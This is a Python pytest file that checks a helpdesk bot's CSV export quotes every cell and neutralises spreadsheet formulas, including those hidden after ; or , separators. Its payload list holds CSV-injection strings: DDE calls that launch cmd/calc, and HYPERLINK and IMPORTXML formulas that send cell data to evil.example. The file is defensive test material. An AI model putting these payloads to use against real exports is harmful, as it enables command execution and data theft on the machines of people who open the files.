"""The CSV export opens as text in a spreadsheet (issue #13): every cell quoted, and no cell,
nor any piece of one after a ; or , separator, starts a formula."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest

from bot.helpdesk import services
from bot.helpdesk.models import TicketFilter
from tests.unit.helpdesk.fake_repositories import FakeTicketRepository

BODY = {"type": "erasure", "requester_name": "Ken", "email": "ken@example.com", "details": "Go"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "Jane;=cmd|' /C calc'!A0",
    "Jane,=cmd|' /C calc'!A0",
    "Jane; =1+1",
    "Jane,\t=1+1",
    "a;+1;-1;@x",
    " =1+1",
    "  @SUM(A1)",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "-@SUM(1)",
    '"=1+1"',
    "x\n=1+1",
    "Jane;\r=1+1",
    'DDE("cmd";"/C calc";"!A0")',
    '=DDE("cmd";"/C calc";"!A0")',
    "'=already quoted",
    "plain text, nothing to do",
]


def opens_as_text(cell: str) -> bool:
    pieces = [cell, *re.split(r"[;,]", cell)[1:]]
    return not any(piece.lstrip(" ").startswith(FORMULA_START) for piece in pieces)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_every_payload_opens_as_text(payload: str) -> None:
    tickets = FakeTicketRepository()
    opened = await services.open_ticket(
        tickets, BODY, "k", "bot", due_days=14, notify=lambda t: None
    )
    reference = opened.ticket.reference
    detail = tickets.tickets[reference]
    tickets.tickets[reference] = replace(
        detail,
        ticket=replace(detail.ticket, requester_name=payload, details=payload, service=payload),
    )

    text = await services.export(tickets, TicketFilter())

    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2 and len(rows[1]) == len(services.CSV_COLUMNS)
    assert all(opens_as_text(cell) for row in rows for cell in row), rows[1]
    assert text.startswith('"reference","type"')  # QUOTE_ALL
    assert all(field.startswith('"') for field in text.splitlines()[1].split('","')[:1])


def test_the_corpus_is_large_enough() -> None:
    assert len(PAYLOADS) >= 20
